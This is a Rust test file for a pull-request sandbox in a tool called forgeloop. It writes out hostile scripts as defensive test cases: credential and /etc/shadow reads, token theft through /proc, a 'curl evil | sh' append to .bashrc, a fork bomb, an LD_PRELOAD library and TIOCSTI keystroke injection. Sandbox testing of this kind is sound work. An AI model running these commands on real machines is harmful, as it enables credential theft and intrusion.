//! A hostile PR against the sandbox (design §5.6): one PR per attack of the policy table, each
//! run through `forgeloop test` against the GitHub emulator, in both tiers (the second forced
//! through the test seam), as root and as an ordinary user. Every outcome is observed from
//! outside: the planted files, the listeners, the process table. The control tests show the
//! same observations do catch the attack when the sandbox is off.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, unreachable_pub)] // test code: the product's lints (Cargo.toml) do not apply

#[macro_use]
mod sandbox_support;
mod support;

use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::time::{Duration, Instant};

use sandbox_support::{Lab, Tier, Who};

/// The tiers a test runs in, each with who runs forgeloop: the landlock tier never runs a test
/// for root.
const TIERS: [(Tier, Who); 2] = [(Tier::Namespaces, Who::Root), (Tier::Landlock, Who::User)];

fn credentials_script(lab: &Lab) -> String {
    let home = lab.user_home.display();
    format!(
        "for f in {home}/.ssh/id_ed25519 {home}/.config/gh/hosts.yml {home}/.aws/credentials {home}/.netrc \
         \"$HOME/.ssh/id_ed25519\" \"$HOME/.aws/credentials\"; do cat \"$f\"; done\n\
         ls -la {home} {home}/.ssh \"$HOME\"\nfind / -name id_ed25519 2>/dev/null\nexit 0\n"
    )
}

every_way!(credential_files_cannot_be_read, |lab: Lab| {
    let attack = lab.attack(&format!(
        "{}cat /etc/shadow /etc/gshadow; cat /etc/ssh/*key*; exit 0\n",
        credentials_script(&lab).replace("exit 0\n", "")
    ));
    assert!(!attack.everything().contains(&lab.canary), "a credential leaked:\n{}", attack.everything());
    // The machine's own secrets under /etc stay hidden too (readable here only because the
    // test runs as root).
    for secret in ["/etc/shadow", "/etc/gshadow"] {
        if let Some(line) = std::fs::read_to_string(secret).ok().and_then(|t| t.lines().next().map(str::to_owned)) {
            assert!(!attack.log.contains(&line), "{secret} leaked:\n{}", attack.log);
        }
    }
    // The attack did run: its own output is in the log.
    assert!(attack.log.contains("$ sh attack.sh"), "{}", attack.log);
});

every_way!(credential_files_cannot_be_read_through_a_committed_symlink, |lab: Lab| {
    let home = lab.user_home.display().to_string();
    let ssh = format!("{home}/.ssh/id_ed25519");
    let aws = format!("{home}/.aws/credentials");
    let n = lab.hostile_pr(
        &[("attack.sh", "cat key creds; cat dir/id_ed25519; exit 0\n")],
        &[("key", ssh.as_str()), ("creds", aws.as_str()), ("dir", &format!("{home}/.ssh"))],
    );
    let attack = lab.test(n, r#"[["sh", "attack.sh"]]"#);
    assert!(!attack.everything().contains(&lab.canary), "{}", attack.everything());
    assert!(attack.log.contains("$ sh attack.sh"));
});

every_way!(forgeloop_environment_cannot_be_read_through_proc, |lab: Lab| {
    // forgeloop's environment holds GH_TOKEN and HOSTILE_CANARY; the runner never passes them,
    // so /proc is the attack: the parent, the parent's parent, and every process visible.
    let script = "pp=$(cut -d' ' -f4 /proc/$PPID/stat)\n\
                  cat /proc/$PPID/environ /proc/$pp/environ\n\
                  for p in /proc/[0-9]*; do cat $p/environ; done | tr '\\0' '\\n'\n\
                  cat /proc/1/environ\nexit 0\n";
    let attack = lab.attack(script);
    let everything = attack.everything();
    assert!(!everything.contains(&lab.canary), "{everything}");
    assert!(!everything.contains(&lab.w.token), "{everything}");
    assert!(!everything.contains("HOSTILE_CANARY"), "{everything}");
});

every_way!(the_users_bashrc_cannot_be_written, |lab: Lab| {
    let bashrc = lab.user_home.join(".bashrc");
    let before = std::fs::read(&bashrc).unwrap();
    let script = format!(
        "echo 'curl evil | sh' >> {}\necho 'curl evil | sh' >> \"$HOME/.bashrc\"\necho home=$HOME\nexit 0\n",
        bashrc.display()
    );
    let attack = lab.attack(&script);
    assert_eq!(std::fs::read(&bashrc).unwrap(), before, "{}", attack.log);
    // HOME itself is writable, just private: the second append succeeded inside.
    assert!(attack.log.contains("home="), "{}", attack.log);
});

every_way!(forgeloop_home_and_mirrors_cannot_be_listed_or_written, |lab: Lab| {
    let home = lab.forgeloop_home();
    let script = format!(
        "H={home}\nls -laR $H\nfind $H\n\
         echo x > $H/planted; echo x > $H/cycles/planted; echo x > $H/mirrors/planted\n\
         for d in $H/mirrors/*/*.git; do echo x > $d/planted; echo x > $d/objects/planted; ls $d/refs; done\n\
         m=$(cat .git/objects/info/alternates); echo x > $m/planted; ls $m/..; exit 0\n",
        home = home.display()
    );
    let attack = lab.attack(&script);
    assert!(!attack.everything().contains(&lab.canary), "the home was listed:\n{}", attack.log);
    let planted: Vec<_> = support::snapshot(&home).into_iter().filter(|(p, _)| p.ends_with("planted")).collect();
    assert!(planted.is_empty(), "files were planted: {planted:?}\n{}", attack.log);
});

every_way!(the_hosts_loopback_is_unreachable_by_tcp_and_udp, |lab: Lab| {
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let script = format!(
        "python3 - <<'EOF'\nimport socket\n\
         try:\n    socket.create_connection(('127.0.0.1', {tcp}), timeout=3).sendall(b'hello')\n    print('tcp connected')\n\
         except OSError as e:\n    print('tcp refused', e)\n\
         try:\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'hello', ('127.0.0.1', {udp}))\n    print('udp sent')\n\
         except OSError as e:\n    print('udp refused', e)\nEOF\n",
        tcp = tcp.local_addr().unwrap().port(),
        udp = udp.local_addr().unwrap().port()
    );
    let attack = lab.attack(&script);
    assert!(attack.log.contains("tcp refused"), "{}", attack.log);
    assert!(tcp.accept().is_err(), "the host's listener was reached:\n{}", attack.log);
    assert!(udp.recv(&mut [0u8; 64]).is_err(), "a datagram reached the host:\n{}", attack.log);
});

every_way!(nothing_outlives_the_run_not_even_a_setsid_or_double_forked_daemon, |lab: Lab| {
    let tag = format!("{}-daemon", lab.canary);
    let script = format!(
        "setsid python3 -c 'import time; time.sleep(300)' {tag}-setsid >/dev/null 2>&1 < /dev/null &\n\
         (python3 -c 'import os, time; os.setsid(); time.sleep(300)' {tag}-fork >/dev/null 2>&1 < /dev/null &) &\n\
         sleep 0.3\necho started\nexit 0\n"
    );
    let attack = lab.attack(&script);
    assert!(attack.log.contains("started"), "{}", attack.log);
    let deadline = Instant::now() + Duration::from_secs(5);
    let mut left = Lab::processes_with(&tag);
    while !left.is_empty() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
        left = Lab::processes_with(&tag);
    }
    for pid in &left {
        let _ = std::process::Command::new("kill").args(["-9", &pid.to_string()]).status();
    }
    assert!(left.is_empty(), "processes outlived the run: {left:?}");
});

every_way!(a_fork_bomb_is_bounded_and_dies_with_the_run, |lab: Lab| {
    lab.config("[runner]\nmax_processes = 48\n");
    let tag = format!("{}-bomb", lab.canary);
    let bomb = "import os, sys, time\nn = 0\nwhile n < 5000:\n    try:\n        pid = os.fork()\n    except OSError:\n        break\n    if pid == 0:\n        time.sleep(60)\n        os._exit(0)\n    n += 1\nprint('forked', n, flush=True)\n";
    let n = lab.hostile_pr(&[("bomb.py", bomb)], &[]);
    let commands = format!(r#"[["python3", "bomb.py", "{tag}"]]"#);
    // Watch the machine's process table while it runs.
    let watching = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(true));
    let watcher = {
        let (tag, watching) = (tag.clone(), watching.clone());
        std::thread::spawn(move || {
            let mut peak = 0;
            while watching.load(std::sync::atomic::Ordering::SeqCst) {
                peak = peak.max(Lab::processes_with(&tag).len());
                std::thread::sleep(Duration::from_millis(10));
            }
            peak
        })
    };
    let attack = lab.test(n, &commands);
    watching.store(false, std::sync::atomic::Ordering::SeqCst);
    let peak = watcher.join().unwrap();
    let forked: usize = attack
        .log
        .lines()
        .find_map(|l| l.strip_prefix("forked "))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or_else(|| panic!("no count in the log:\n{}", attack.log));
    assert!(forked < 48, "the bomb forked {forked} times:\n{}", attack.log);
    // The sandbox helper (and, in the first tier, its namespace parent) carry the command line
    // too: two more than the bound.
    assert!(peak <= 48 + 2, "{peak} bomb processes were seen at once");
    assert_eq!(attack.report["environment"]["sandbox"]["max_processes"], 48);
    assert_ne!(attack.report["environment"]["sandbox"]["process_limit"], "none");
    std::thread::sleep(Duration::from_millis(200));
    assert!(Lab::processes_with(&tag).is_empty(), "bomb processes outlived the run");
});

every_way!(a_process_outside_the_run_cannot_be_signalled, |lab: Lab| {
    let mut victim = std::process::Command::new("sleep").arg("300").spawn().unwrap();
    let pid = victim.id();
    let attack = lab.attack(&format!("kill -9 {pid}; kill -TERM {pid}; kill -STOP {pid}; exit 0\n"));
    std::thread::sleep(Duration::from_millis(100));
    let alive = victim.try_wait().unwrap().is_none();
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
    let _ = victim.kill();
    let _ = victim.wait();
    assert!(alive, "the victim was killed:\n{}", attack.log);
    assert!(!stat.contains(") T "), "the victim was stopped:\n{}", attack.log);
});

every_way!(an_ordinary_test_still_works, |lab: Lab| {
    let script = "set -e\necho hi > \"$HOME/note\"; cat \"$HOME/note\"\ngrep CapEff /proc/self/status\necho uid=$(id -u)\n\
                  echo data > out.txt; cat out.txt\nmkdir -p \"$TMPDIR/x\" && echo tmp-ok\n\
                  python3 -c 'print(\"py\", 6 * 7)'\ngit rev-parse --is-inside-work-tree\n";
    let n = lab.hostile_pr(&[("ok.sh", script)], &[]);
    let attack = lab.test(n, r#"[["sh", "ok.sh"]]"#);
    assert_eq!(attack.report["status"], "TEST_PASSED", "{}", attack.log);
    for expected in ["hi", "data", "tmp-ok", "py 42", "true", "CapEff:\t0000000000000000"] {
        assert!(attack.log.lines().any(|l| l == expected), "{expected:?} missing:\n{}", attack.log);
    }
    // In the first tier a run started by root is not root inside.
    if lab.tier == Tier::Namespaces {
        assert!(!attack.log.lines().any(|l| l == "uid=0"), "{}", attack.log);
    }
});

every_way!(memory_mb_caps_what_the_run_can_take, |lab: Lab| {
    let tag = format!("{}-hog", lab.canary);
    let hog = "import sys\nheld = []\ntry:\n    for i in range(60):\n        held.append(bytearray(10 * 1024 * 1024))\n    print('took 600 MB', flush=True)\nexcept MemoryError:\n    print('refused at', len(held) * 10, 'MB', flush=True)\n";
    let n = lab.hostile_pr(&[("hog.py", hog)], &[]);
    let peak = std::sync::Arc::new(std::sync::atomic::AtomicU64::new(0));
    let watching = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(true));
    let watcher = {
        let (tag, peak, watching) = (tag.clone(), peak.clone(), watching.clone());
        std::thread::spawn(move || {
            while watching.load(std::sync::atomic::Ordering::SeqCst) {
                for pid in Lab::processes_with(&tag) {
                    let rss = std::fs::read_to_string(format!("/proc/{pid}/status"))
                        .ok()
                        .and_then(|s| {
                            s.lines()
                                .find(|l| l.starts_with("VmRSS:"))
                                .and_then(|l| l.split_whitespace().nth(1)?.parse().ok())
                        })
                        .unwrap_or(0u64);
                    peak.fetch_max(rss, std::sync::atomic::Ordering::SeqCst);
                }
                std::thread::sleep(Duration::from_millis(5));
            }
        })
    };
    let attack = lab.test(n, &format!(r#"{{"commands": [["python3", "hog.py", "{tag}"]], "memory_mb": 128}}"#));
    watching.store(false, std::sync::atomic::Ordering::SeqCst);
    watcher.join().unwrap();
    let peak_mb = peak.load(std::sync::atomic::Ordering::SeqCst) / 1024;
    assert!(!attack.log.contains("took 600 MB"), "{}", attack.log);
    assert!(peak_mb <= 160, "the hog held {peak_mb} MB:\n{}", attack.log);
    assert_eq!(attack.report["environment"]["sandbox"]["memory_mb"], 128);
    assert!(attack.report["environment"]["sandbox"]["memory_limit"].is_string());
});

/// The commands file's `env` is the command's, not the helper's: `LD_PRELOAD` pointing at a
/// library the PR built must not load into the (unsandboxed) sandbox helper.
#[test]
fn ld_preload_from_the_commands_file_never_reaches_the_helper() {
    for (tier, who) in TIERS {
        let lab = Lab::new(tier, who);
        // Where the helper, unsandboxed and as forgeloop's own account, could write.
        let flag = lab.w.path(&format!("shared/preloaded-{}", lab.canary));
        let evil = format!(
            "#include <stdio.h>\n__attribute__((constructor)) static void hit(void) {{ FILE *f = fopen(\"{}\", \"a\"); if (f) {{ fputs(\"x\", f); fclose(f); }} }}\n",
            flag.display()
        );
        let n = lab.hostile_pr(&[("evil.c", &evil)], &[]);
        let commands = r#"{"commands": [["cc", "-shared", "-fPIC", "-o", "evil.so", "evil.c"],
            {"argv": ["true"], "env": {"LD_PRELOAD": "./evil.so", "LD_LIBRARY_PATH": "."}}]}"#;
        let attack = lab.test(n, commands);
        assert!(attack.log.contains("$ cc -shared"), "{}", attack.log);
        assert!(!flag.exists(), "{tier:?}: the library ran outside the sandbox:\n{}", attack.log);
    }
}

/// A test cannot type into the person's terminal: the run has no controlling terminal, so
/// TIOCSTI on /dev/tty has nothing to push into. Run under tmux as a person would; the
/// injected line would create a file when the pane's shell reads it.
#[test]
fn a_test_cannot_push_keystrokes_into_the_persons_terminal() {
    if std::process::Command::new("tmux").arg("-V").output().is_err() {
        panic!("tmux is needed for this test (CI installs it)");
    }
    for (tier, who) in TIERS {
        let lab = Lab::new(tier, who);
        let flag = lab.w.path("injected");
        let inject = format!(
            "import fcntl, os, termios\nfd = os.open('/dev/tty', os.O_RDWR)\nfor c in 'touch {}\\n':\n    fcntl.ioctl(fd, termios.TIOCSTI, c.encode())\nprint('injected')\n",
            flag.display()
        );
        let n = lab.hostile_pr(&[("inject.py", &inject)], &[]);
        let commands = lab.w.path("commands-tty.json");
        std::fs::write(&commands, r#"[["python3", "inject.py"]]"#).unwrap();
        lab.give_back(&commands);
        let cmd =
            lab.command(&["test", "--pr", &format!("acme/widget#{n}"), "--commands-json", commands.to_str().unwrap()]);
        let env: Vec<String> = cmd
            .get_envs()
            .filter_map(|(k, v)| Some(format!("{}={}", k.to_str()?, shell_quote(v?.to_str()?))))
            .collect();
        let program = cmd.get_program().to_str().unwrap().to_owned();
        let args: Vec<String> = cmd.get_args().map(|a| shell_quote(a.to_str().unwrap())).collect();
        let done = lab.w.path("done");
        let line =
            format!("env -i {} {} {} > /dev/null; touch {}", env.join(" "), program, args.join(" "), done.display());
        let session = format!("fl-tty-{}", &lab.canary[6..16]);
        let status = std::process::Command::new("tmux")
            .args(["new-session", "-d", "-s", &session, "-x", "120", "-y", "20", "sh"])
            .current_dir(lab.w.sb.dir.path())
            .status()
            .unwrap();
        assert!(status.success());
        std::process::Command::new("tmux").args(["send-keys", "-t", &session, &line, "Enter"]).status().unwrap();
        let deadline = std::time::Instant::now() + Duration::from_secs(120);
        while !done.exists() && std::time::Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(50));
        }
        // Give the pane's shell time to read anything that was pushed into its input.
        std::thread::sleep(Duration::from_millis(700));
        let _ = std::process::Command::new("tmux").args(["kill-session", "-t", &session]).status();
        assert!(done.exists(), "forgeloop did not finish in the pane");
        let report = std::fs::read_dir(lab.forgeloop_home().join("tests"))
            .unwrap()
            .flatten()
            .find(|e| e.path().extension().is_some_and(|x| x == "json"))
            .map(|e| std::fs::read_to_string(e.path()).unwrap())
            .unwrap_or_default();
        assert!(
            report.contains("\"TEST_PASSED\"") || report.contains("\"TEST_FAILED\""),
            "the test did not run:\n{report}"
        );
        assert!(!flag.exists(), "{tier:?}: a keystroke pushed by the test ran in the person's shell");
    }
}

fn shell_quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// A Rust crate builds with a toolchain bound back read-only: root's own (rustup's, under
/// `/root`, reached through the first tier's mounts although the test runs as `nobody`), and,
/// for the ordinary user, one outside any home (root's toolchain hard-linked into the lab: an
/// ordinary user cannot enter `/root`).
#[test]
fn cargo_and_rustc_work_from_the_bound_toolchain_in_both_tiers() {
    for (tier, who) in [(Tier::Namespaces, Who::Root), (Tier::Namespaces, Who::User), (Tier::Landlock, Who::User)] {
        if who == Who::Root && !sandbox_support::root_or_skip() {
            continue;
        }
        let mut lab = Lab::new(tier, who);
        // A toolchain outside any home is granted whole (its `lib` beside `bin`) by read_paths.
        let mut grant = String::new();
        if who == Who::User {
            let bin = sandbox_support::link_toolchain(&lab);
            lab.set_env("PATH", &format!("{}:/usr/local/bin:/usr/bin:/bin", bin.display()));
            grant = format!(r#", "read_paths": ["{}"]"#, bin.parent().unwrap().display());
        }
        let n = lab.hostile_pr(
            &[
                ("Cargo.toml", "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n"),
                ("main.rs", "fn main() { println!(\"tiny {}\", 6 * 7); }\n"),
            ],
            &[],
        );
        let commands = format!(
            r#"{{"commands": [["rustc", "--version"], ["mkdir", "-p", "src"], ["cp", "main.rs", "src/main.rs"], ["cargo", "run", "--offline", "-q"]]{grant}}}"#
        );
        let attack = lab.test(n, &commands);
        assert_eq!(attack.report["status"], "TEST_PASSED", "{tier:?} {who:?}:\n{}", attack.log);
        assert!(attack.log.lines().any(|l| l == "tiny 42"), "{}", attack.log);
    }
}

/// `"network": true` shares the host network (the listener is reached) and changes nothing
/// else: the credentials stay invisible.
#[test]
fn network_true_reaches_the_host_and_still_hides_credentials() {
    for (tier, who) in TIERS {
        let lab = Lab::new(tier, who);
        let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
        let script = format!(
            "{}python3 -c \"import socket; socket.create_connection(('127.0.0.1', {})).sendall(b'hello')\"\n",
            credentials_script(&lab).replace("exit 0\n", ""),
            tcp.local_addr().unwrap().port()
        );
        // `"network": true` is the host's whole network: the person's config must permit it.
        lab.config("[network.repositories.\"acme/widget\"]\nopen = true\n");
        let n = lab.hostile_pr(&[("attack.sh", &script)], &[]);
        let attack = lab.test(n, r#"{"commands": [["sh", "attack.sh"]], "network": true}"#);
        assert_eq!(attack.report["environment"]["sandbox"]["network"], "open");
        tcp.set_nonblocking(false).unwrap();
        let (mut conn, _) = tcp.accept().unwrap();
        let mut got = String::new();
        conn.read_to_string(&mut got).unwrap();
        assert_eq!(got, "hello", "{}", attack.log);
        assert!(!attack.everything().contains(&lab.canary), "{tier:?}: {}", attack.everything());
    }
}

/// The control: with the person's `sandbox = "off"`, the same observation catches the same
/// attack, so the tests above can fail; and every output says `unsandboxed`.
#[test]
fn with_the_sandbox_off_the_attack_succeeds_and_every_output_says_unsandboxed() {
    let lab = Lab::new(Tier::Namespaces, Who::Root);
    lab.config("[runner]\nsandbox = \"off\"\n");
    let n = lab.hostile_pr(&[("attack.sh", &credentials_script(&lab))], &[]);
    let file = lab.w.path("commands-off.json");
    std::fs::write(&file, r#"[["sh", "attack.sh"]]"#).unwrap();
    let run = lab.run(&["test", "--pr", &format!("acme/widget#{n}"), "--commands-json", file.to_str().unwrap()]);
    let report = run.json();
    assert_eq!(report["environment"]["sandbox"]["kind"], "off");
    assert!(report["comment_markdown"].as_str().unwrap().contains("- Sandbox: unsandboxed"));
    let log = std::fs::read_to_string(report["log_path"].as_str().unwrap()).unwrap();
    assert!(log.contains(&format!("{}-ssh", lab.canary)), "the control did not see the leak:\n{log}");
    // `next` and `doctor` say it too.
    lab.start_cycle("c.json");
    assert_eq!(lab.run(&["next", "--state", "c.json"]).json()["sandbox"], "unsandboxed");
    let check = sandbox_check(&lab);
    assert_eq!(check["ok"], false, "{check}");
}

/// The `sandbox` entry of `forgeloop doctor`.
fn sandbox_check(lab: &Lab) -> serde_json::Value {
    let doctor = lab.run(&["doctor"]).json();
    doctor["checks"].as_array().unwrap().iter().find(|c| c["name"] == "sandbox").cloned().unwrap()
}

/// `doctor` builds a sandbox and says which tier works, or why none does and the fixes.
#[test]
fn doctor_reports_the_tier_that_works() {
    for (tier, who) in TIERS {
        let lab = Lab::new(tier, who);
        let check = sandbox_check(&lab);
        assert_eq!(check["ok"], true, "{check}");
        let detail = check["detail"].as_str().unwrap();
        assert!(detail.starts_with(&format!("{} tier works here", tier.kind())), "{detail}");
        assert!(detail.contains("Landlock ABI"), "{detail}");
    }
    // As root without user namespaces nothing runs, and doctor says how to run instead.
    if !sandbox_support::root_or_skip() {
        return;
    }
    let lab = Lab::new(Tier::Landlock, Who::Root);
    let check = sandbox_check(&lab);
    assert_eq!(check["ok"], false, "{check}");
    assert!(check["detail"].as_str().unwrap().contains("forgeloop runs as root"), "{check}");
    assert!(check["fix"].as_str().unwrap().contains("ordinary user"), "{check}");
    let mut lab = Lab::new(Tier::Namespaces, Who::Root);
    lab.set_env("FORGELOOP_SANDBOX_REFUSE", "namespaces,landlock");
    let check = sandbox_check(&lab);
    assert_eq!(check["ok"], false, "{check}");
    assert!(check["fix"].as_str().unwrap().contains("sandbox = \"off\""), "{check}");
}

/// A commands file cannot turn the sandbox off or grant a credential store.
#[test]
fn a_commands_file_cannot_turn_the_sandbox_off_or_reach_into_the_home() {
    let lab = Lab::new(Tier::Namespaces, Who::Root);
    let nested = lab.w.path("shared/outer");
    std::fs::create_dir_all(nested.join("inner")).unwrap();
    let n = lab.hostile_pr(&[("attack.sh", "exit 0\n")], &[]);
    for (commands, status) in [
        (r#"{"commands": [["sh", "attack.sh"]], "sandbox": "off"}"#.to_owned(), "BLOCKED"),
        (
            format!(r#"{{"commands": [["sh", "attack.sh"]], "read_paths": ["{}/.ssh"]}}"#, lab.user_home.display()),
            "SANDBOX_PATH_REFUSED",
        ),
        (
            format!(r#"{{"commands": [["sh", "attack.sh"]], "write_paths": ["{}"]}}"#, lab.forgeloop_home().display()),
            "SANDBOX_PATH_REFUSED",
        ),
        // The shared /tmp holds other runs' private directories and agent sockets; the system
        // trees stay read-only; the machine's secrets stay hidden.
        (r#"{"commands": [["sh", "attack.sh"]], "read_paths": ["/tmp"]}"#.to_owned(), "SANDBOX_PATH_REFUSED"),
        (r#"{"commands": [["sh", "attack.sh"]], "write_paths": ["/etc"]}"#.to_owned(), "SANDBOX_PATH_REFUSED"),
        (r#"{"commands": [["sh", "attack.sh"]], "write_paths": ["/usr/local"]}"#.to_owned(), "SANDBOX_PATH_REFUSED"),
        (r#"{"commands": [["sh", "attack.sh"]], "read_paths": ["/etc/ssh"]}"#.to_owned(), "SANDBOX_PATH_REFUSED"),
        // A grant inside a write grant could be swapped for a link between two commands.
        (
            format!(
                r#"{{"commands": [["sh", "attack.sh"]], "write_paths": ["{d}"], "read_paths": ["{d}/inner"]}}"#,
                d = nested.display()
            ),
            "SANDBOX_PATH_REFUSED",
        ),
        (
            format!(
                r#"{{"commands": [["sh", "attack.sh"]], "write_paths": ["{d}", "{d}/inner"]}}"#,
                d = nested.display()
            ),
            "SANDBOX_PATH_REFUSED",
        ),
    ] {
        let file = lab.w.path("commands-bad.json");
        std::fs::write(&file, &commands).unwrap();
        let run = lab.run(&["test", "--pr", &format!("acme/widget#{n}"), "--commands-json", file.to_str().unwrap()]);
        assert_eq!(run.code, 2, "{commands}: {}", run.stdout);
        assert_eq!(run.json()["status"], status, "{}", run.stdout);
    }
}

/// With both tiers refused nothing runs: exit 2, SANDBOX_UNAVAILABLE naming causes and fixes,
/// nothing fetched, and the cycle's state file byte-for-byte unchanged.
#[test]
fn with_no_tier_available_forge_pr_refuses_and_changes_nothing() {
    let mut lab = Lab::new(Tier::Namespaces, Who::Root);
    lab.set_env("FORGELOOP_SANDBOX_REFUSE", "namespaces,landlock");
    let n = lab.hostile_pr(&[("attack.sh", "echo ran > /dev/null\n")], &[]);
    lab.start_cycle("c.json");
    let state_path = lab.w.path("c.json");
    let before = std::fs::read(&state_path).unwrap();
    let sidecar_before = support::snapshot(&lab.w.path("c.d"));
    std::fs::write(lab.w.path("commands.json"), r#"[["sh", "attack.sh"]]"#).unwrap();
    let requests_before = lab.w.emu.requests().len();
    let run = lab.run(&[
        "forge",
        "--pr",
        &format!("acme/widget#{n}"),
        "--state",
        "c.json",
        "--commands-json",
        "commands.json",
    ]);
    assert_eq!(run.code, 2, "{}", run.stdout);
    let out = run.json();
    assert_eq!(out["status"], "SANDBOX_UNAVAILABLE");
    assert!(out["causes"].as_array().unwrap().len() == 2, "{out}");
    assert!(
        out["fixes"].as_array().unwrap().iter().any(|f| f.as_str().unwrap().contains("sandbox = \\\"off\\\"")
            || f.as_str().unwrap().contains("sandbox = \"off\""))
    );
    assert_eq!(std::fs::read(&state_path).unwrap(), before, "the state file changed");
    assert_eq!(support::snapshot(&lab.w.path("c.d")), sidecar_before, "the journal changed");
    assert_eq!(lab.w.emu.requests().len(), requests_before, "GitHub was contacted");
    assert!(!lab.w.path("home/mirrors").exists(), "something was fetched");
}

/// When the sandbox cannot be built around a command, nothing runs and the run is an infra
/// failure: not a failed test, not an iteration, nothing for WebGPT. Here the `read_paths`
/// entry is replaced by another directory (as a concurrent run could, through a write grant of
/// its own) while the first command runs: a grant is resolved once per run, so the second
/// command's sandbox refuses to grant what is now at that path, in both tiers.
#[test]
fn a_granted_path_swapped_during_the_run_stops_it_as_an_infra_failure() {
    for (tier, who) in [(Tier::Namespaces, Who::Root), (Tier::Namespaces, Who::User), (Tier::Landlock, Who::User)] {
        let lab = Lab::new(tier, who);
        let (read, write) = (lab.w.path("shared/r"), lab.w.path("shared/w"));
        std::fs::create_dir_all(&read).unwrap();
        std::fs::create_dir_all(&write).unwrap();
        lab.give_back(&lab.w.path("shared"));
        // The account tests run as (nobody, when forgeloop is root) writes here.
        std::fs::set_permissions(&write, std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
        let first = format!(
            "echo first running\nn=0\nwhile [ ! -e {w}/go ] && [ $n -lt 1200 ]; do sleep 0.05; n=$((n+1)); done\necho first done\n",
            w = write.display()
        );
        let n = lab.hostile_pr(&[("first.sh", &first), ("second.sh", "echo second ran\n")], &[]);
        lab.start_cycle("shared/c.json");
        let commands = format!(
            r#"{{"commands": [["sh", "first.sh"], ["sh", "second.sh"]], "write_paths": ["{}"], "read_paths": ["{}"]}}"#,
            write.display(),
            read.display()
        );
        std::fs::write(lab.w.path("shared/commands.json"), commands).unwrap();
        lab.give_back(&lab.w.path("shared/commands.json"));
        let pr = format!("acme/widget#{n}");
        let args = ["forge", "--pr", &pr, "--state", "shared/c.json", "--commands-json", "shared/commands.json"];
        let mut child = lab.command(&args).stdout(std::process::Stdio::piped()).spawn().unwrap();
        let runs = lab.w.path("shared/c.d/runs");
        let deadline = Instant::now() + Duration::from_secs(120);
        let running = || {
            std::fs::read_dir(&runs)
                .into_iter()
                .flatten()
                .flatten()
                .any(|e| std::fs::read_to_string(e.path()).is_ok_and(|log| log.contains("first running")))
        };
        while !running() && Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(20));
        }
        std::fs::rename(&read, lab.w.path("shared/r.old")).unwrap();
        std::fs::create_dir(&read).unwrap();
        lab.give_back(&read);
        std::fs::write(write.join("go"), "").unwrap();
        let mut stdout = String::new();
        child.stdout.take().unwrap().read_to_string(&mut stdout).unwrap();
        let code = child.wait().unwrap().code();
        assert_eq!(code, Some(2), "{tier:?} {who:?}: {stdout}");
        let out: serde_json::Value = serde_json::from_str(&stdout).unwrap();
        assert_eq!(out["status"], "INFRA_FAILURE", "{stdout}");
        let error = out["error"].as_str().unwrap();
        assert!(error.contains("the sandbox could not be built") && error.contains("no longer the file"), "{out}");
        let state: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(lab.w.path("shared/c.json")).unwrap()).unwrap();
        assert_eq!(state["infra_failures"], 1, "{state}");
        assert!(state["history"].as_array().is_none_or(|h| h.is_empty()), "counted as an iteration: {state}");
        assert!(state["webgpt_handoff"].is_null(), "a handoff for WebGPT was written: {state}");
        assert!(lab.w.comments(&lab.repo, n).is_empty());
    }
}

// The other side of the same line: a test that exits 125 and prints the helper's words is a
// failed test like any other (only the helper's report pipe can say the sandbox failed).
every_way!(a_test_that_imitates_a_sandbox_failure_is_a_failed_test, |lab: Lab| {
    let attack = lab.attack("echo 'forgeloop: the sandbox could not be built: imitated' >&2\nexit 125\n");
    assert_eq!(attack.report["status"], "TEST_FAILED", "{}", attack.run.stdout);
    assert_eq!(attack.report["commands"][0]["exit_code"], 125);
    assert!(attack.report["failure_output"].as_str().unwrap().contains("imitated"));
});
